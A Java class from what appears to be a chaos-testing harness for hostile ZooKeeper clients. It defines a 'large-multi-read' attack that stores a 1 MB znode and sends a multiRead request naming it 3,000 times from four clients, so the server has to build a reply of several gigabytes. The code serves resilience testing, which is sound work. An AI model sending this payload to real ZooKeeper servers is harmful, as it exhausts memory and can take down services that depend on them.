package io.oarlock.chaos.hostile.client;

import io.oarlock.chaos.hostile.subject.Attack;
import io.oarlock.chaos.hostile.subject.RawClient;
import io.oarlock.chaos.hostile.subject.RequestBytes;
import io.oarlock.chaos.hostile.subject.Subject;
import java.io.IOException;
import org.apache.zookeeper.ZooDefs.OpCode;

/** A small request whose reply would not fit into any memory. */
public final class LargeMultiRead implements Attack {

    private static final int CLIENTS = 4;
    private static final int READS = 3_000;
    private static final int DATA_BYTES = 1_000_000;

    @Override
    public String name() {
        return "large-multi-read";
    }

    @Override
    public String description() {
        return "multiRead that names a znode of 1 MB 3,000 times";
    }

    @Override
    public void launch(Subject subject) throws IOException {
        subject.client().create("/read-often", new byte[DATA_BYTES]);
        RequestBytes multiRead = new RequestBytes();
        for (int i = 0; i < READS; i++) {
            multiRead
                    .part(OpCode.getData)
                    .raw(RawClient.reading("/read-often", false).toByteArray());
        }
        multiRead.endOfMulti();
        for (int i = 0; i < CLIENTS; i++) {
            subject.client().send(OpCode.multiRead, multiRead.toByteArray());
        }
    }
}
